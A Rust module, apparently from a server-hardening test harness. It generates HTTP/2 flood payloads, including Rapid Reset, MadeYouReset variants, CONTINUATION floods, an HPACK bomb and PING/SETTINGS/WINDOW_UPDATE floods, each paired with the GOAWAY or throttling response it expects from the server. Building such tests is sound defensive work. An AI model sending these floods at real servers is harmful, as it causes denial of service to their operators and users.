//! The kinds of HTTP/2 floods.

use crate::http2::{self, CHECK, call, check, frame, reset, settings, window_update};

/// Frames in one write.
const BURST: usize = 200;

pub struct Flood {
    pub name: &'static str,
    /// Sent once, after the preface and empty settings.
    pub open: fn() -> Vec<u8>,
    /// Sent repeatedly.
    pub again: fn(&mut Streams) -> Vec<u8>,
    pub answer: Answer,
}

impl Flood {
    const fn goaway(name: &'static str, again: fn(&mut Streams) -> Vec<u8>) -> Self {
        Self {
            name,
            open: Vec::new,
            again,
            answer: Answer::Goaway,
        }
    }

    const fn throttle(name: &'static str, again: fn(&mut Streams) -> Vec<u8>) -> Self {
        Self {
            answer: Answer::Throttle,
            ..Self::goaway(name, again)
        }
    }

    const fn after(self, open: fn() -> Vec<u8>) -> Self {
        Self { open, ..self }
    }
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Answer {
    Goaway,
    Throttle,
}

/// The numbers of the streams that a client opens.
pub struct Streams(pub u32);

impl Streams {
    pub fn next(&mut self) -> u32 {
        self.0 += 2;
        self.0
    }
}

pub const FLOODS: &[Flood] = &[
    Flood::goaway("rapid reset", |streams| {
        burst(|| {
            let stream = streams.next();
            [call(stream, CHECK), reset(stream)].concat()
        })
    }),
    Flood::goaway("rapid reset, one at a time", |streams| {
        let stream = streams.next();
        [check(stream), reset(stream)].concat()
    }),
    Flood::goaway("MadeYouReset, window overflow", |streams| {
        burst(|| {
            let stream = streams.next();
            [call(stream, CHECK), window_update(stream, 0x7fff_ffff)].concat()
        })
    }),
    Flood::goaway("MadeYouReset, window update of 0", |streams| {
        let stream = streams.next();
        [call(stream, CHECK), window_update(stream, 0)].concat()
    }),
    Flood::goaway("MadeYouReset, data after the end", |streams| {
        let stream = streams.next();
        [check(stream), frame(http2::DATA, 0, stream, &[0])].concat()
    }),
    Flood::goaway("MadeYouReset, depends on itself", |streams| {
        burst(|| {
            let stream = streams.next();
            let itself = [&stream.to_be_bytes()[..], &[16]].concat();
            let priority = frame(http2::PRIORITY, 0, stream, &itself);
            [call(stream, CHECK), priority].concat()
        })
    }),
    Flood::goaway("more streams than allowed", |streams| {
        burst(|| call(streams.next(), CHECK))
    }),
    Flood::goaway("CONTINUATION", |_| {
        burst(|| frame(http2::CONTINUATION, 0, 1, &http2::header("x", "y")))
    })
    .after(|| frame(http2::HEADERS, 0, 1, &[])),
    Flood::goaway("HPACK bomb", |streams| {
        let newest_entry = 0x80 | 62;
        let block = [http2::call_headers(CHECK), vec![newest_entry; 16_000]].concat();
        frame(http2::HEADERS, http2::END_HEADERS, streams.next(), &block)
    })
    .after(|| {
        let entry = [
            vec![0x40],
            http2::string("x"),
            http2::string(&"y".repeat(4000)),
        ]
        .concat();
        let block = [http2::call_headers(CHECK), entry].concat();
        frame(
            http2::HEADERS,
            http2::END_HEADERS | http2::END_STREAM,
            1,
            &block,
        )
    }),
    Flood::goaway("empty DATA", |_| burst(|| frame(http2::DATA, 0, 1, &[])))
        .after(|| call(1, CHECK)),
    Flood::throttle("PING", |_| burst(|| frame(http2::PING, 0, 0, &[7; 8]))),
    Flood::throttle("PING answers to nothing", |_| {
        burst(|| frame(http2::PING, http2::ACK, 0, &[7; 8]))
    }),
    Flood::throttle("SETTINGS", |_| burst(|| settings(&[]))),
    Flood::throttle("SETTINGS, table and window sizes", |_| {
        burst(|| {
            [
                settings(&[(1, 0), (4, 0)]),
                settings(&[(1, 65_536), (4, 0x7fff_0000)]),
            ]
            .concat()
        })
    })
    .after(|| call(1, CHECK)),
    Flood::throttle("PRIORITY", |_| {
        burst(|| frame(http2::PRIORITY, 0, 5, &[0, 0, 0, 3, 16]))
    }),
    Flood::throttle("WINDOW_UPDATE", |_| burst(|| window_update(1, 1))).after(|| call(1, CHECK)),
    Flood::throttle("unknown frames", |_| {
        burst(|| frame(http2::UNKNOWN, 0, 0, &[]))
    }),
];

fn burst(frames: impl FnMut() -> Vec<u8>) -> Vec<u8> {
    std::iter::repeat_with(frames)
        .take(BURST)
        .flatten()
        .collect()
}
